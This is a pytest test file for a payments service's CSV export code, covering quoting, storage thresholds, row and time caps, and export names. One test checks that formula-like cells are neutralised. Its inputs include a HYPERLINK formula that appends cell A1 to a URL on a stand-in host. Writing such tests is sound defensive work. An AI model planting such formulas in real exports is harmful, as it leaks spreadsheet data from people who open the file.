"""CSV writing of the exports (shared/reports/exports.py), without AWS: RFC 4180
output, inline below the limits, the store above them, the row cap, names."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import IO

import pytest

from shared import config
from shared.errors import NotFound, ValidationFailed
from shared.reports import exports


class MemoryStore:
    def __init__(self) -> None:
        self.objects: dict[str, bytes] = {}

    def put(self, key: str, body: IO[bytes], filename: str) -> None:
        self.objects[key] = body.read()

    def url(self, key: str, ttl_s: int) -> str:
        return f"https://exports.example/{key}?ttl={ttl_s}"


@pytest.fixture
def limits(monkeypatch: pytest.MonkeyPatch) -> Iterator[pytest.MonkeyPatch]:
    yield monkeypatch
    monkeypatch.undo()
    config.reset()


ROWS = [("a", "b,c", 'say "hi"'), ("1", "two\nlines", "é")]


def test_small_export_is_inline_rfc4180() -> None:
    out = exports.write("x.csv", ["c1", "c2", "c3"], ROWS, "mer_1")
    assert out.body == 'c1,c2,c3\r\na,"b,c","say ""hi"""\r\n1,"two\nlines",é\r\n'
    parsed = list(csv.reader(io.StringIO(out.body, newline="")))
    assert parsed == [["c1", "c2", "c3"], *[list(r) for r in ROWS]]
    assert (out.rows, out.url) == (2, None)


def test_export_past_the_inline_limit_goes_to_the_store(limits: pytest.MonkeyPatch) -> None:
    limits.setenv("BSCPAY_EXPORT_INLINE_ROWS", "1")
    config.reset()
    store = MemoryStore()
    out = exports.write("x.csv", ["c1", "c2", "c3"], iter(ROWS), "mer_1", store=lambda: store)
    assert out.body is None and out.rows == 2
    ((key, data),) = store.objects.items()
    assert key.startswith("exports/mer_1/") and key.endswith("/x.csv")
    assert out.url == f"https://exports.example/{key}?ttl=900"
    expected = 'c1,c2,c3\r\na,"b,c","say ""hi"""\r\n1,"two\nlines",é\r\n'
    assert data.decode("utf-8") == expected


def test_export_past_the_row_cap_is_422(limits: pytest.MonkeyPatch) -> None:
    limits.setenv("BSCPAY_EXPORT_MAX_ROWS", "1")
    config.reset()
    with pytest.raises(ValidationFailed) as caught:
        exports.write("x.csv", ["c"], [("1",), ("2",)], "mer_1")
    assert caught.value.code == "export_too_large"


def test_formula_like_text_is_defused() -> None:
    assert exports._text("=HYPERLINK(1)") == "'=HYPERLINK(1)"
    assert exports._text("@sum") == "'@sum"
    assert exports._text("order-1") == "order-1"
    assert exports._text(None) == ""


def test_every_text_cell_is_defused_by_the_writer_numbers_are_not() -> None:
    # Given cells of any column, as a regulatory report writes a merchant's name
    rows = [
        ('=HYPERLINK("http://x/?"&A1,"click")', "+1", "-2.5", "@x", "\tTAB", "\rCR"),
        ("-2+3", "-", "Shop", "'=already", "", 7),
    ]
    out = exports.write("x.csv", list("abcdef"), rows, "admin")
    assert out.body is not None
    got = list(csv.reader(io.StringIO(out.body, newline="")))[1:]

    # Then formula-like text gets a leading quote; plain numbers and other text do not
    assert got == [
        ['\'=HYPERLINK("http://x/?"&A1,"click")', "+1", "-2.5", "'@x", "'\tTAB", "'\rCR"],
        ["'-2+3", "'-", "Shop", "'=already", "", "7"],
    ]


@pytest.mark.parametrize("name", ["payments.csv", "transfers.csv", "settlements", "refunds.csv"])
def test_known_exports(name: str) -> None:
    assert exports.kind_of(name).name == name.split(".")[0]


@pytest.mark.parametrize("name", ["payouts.csv", "payments.json", "payments.csv.csv", ""])
def test_unknown_exports_are_404(name: str) -> None:
    with pytest.raises(NotFound):
        exports.kind_of(name)


def test_export_past_its_time_budget_is_422(limits: pytest.MonkeyPatch) -> None:
    limits.setenv("BSCPAY_EXPORT_MAX_SECONDS", "0.001")
    config.reset()

    def slow() -> Iterator[tuple[str]]:
        for i in range(1000):
            if i == 150:
                import time

                time.sleep(0.01)
            yield (str(i),)

    with pytest.raises(ValidationFailed) as caught:
        exports.write("x.csv", ["c"], slow(), "mer_1")
    assert caught.value.code == "export_too_large"
